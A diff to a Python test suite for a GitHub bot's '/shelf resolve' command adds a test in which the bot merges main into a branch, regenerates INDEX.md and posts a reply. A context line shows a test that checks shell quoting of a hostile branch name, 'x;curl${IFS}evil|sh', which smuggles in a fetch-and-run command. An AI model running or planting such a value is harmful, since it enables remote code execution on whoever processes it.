@@ -153,3 +153,22 @@ def test_the_manual_steps_quote_a_hostile_branch_name() -> None:
                                               result=ResolveResult()),
                                    pull, "")
     assert "git switch 'x;curl${IFS}evil|sh'" in reply
+
+
+def test_resolve_from_a_writer_settles_derived_conflicts_and_pushes_a_plain_merge(world: World) -> None:
+    world.commit("night-shift/ups", {UPS: episode("2026-09-22-ups-runtime"), "INDEX.md": "# branch's\n"},
+                 base="main")
+    pull = world.gh.add_pull("night-shift/ups")
+    head = pull.head_sha
+    world.commit("main", {NAS: episode("2026-09-23-nas"), "INDEX.md": "# main's\n"})
+    world.gh.permissions["octo-maintainer"] = Permission.WRITE
+    job = world.job(world.comment_event(pull, "/shelf resolve"))
+    assert commands.run(job) == 0
+    pushed = world.gh.branch_sha("night-shift/ups")
+    assert pushed != head and job.reporter.outputs["commit_sha"] == pushed
+    parents = world.show(pushed, "INDEX.md")
+    assert "UPS runtime" in parents and "# branch's" not in parents  # regenerated from the merged episodes
+    [reply] = [c.body for c in world.gh.comments_on[pull.number] if c.author == "github-actions[bot]"
+               and c.body.startswith("🚀")]
+    assert "Merged `main`" in reply and "a plain push on top of" in reply
+    assert world.gh.reactions[-1][1] is Reaction.DONE
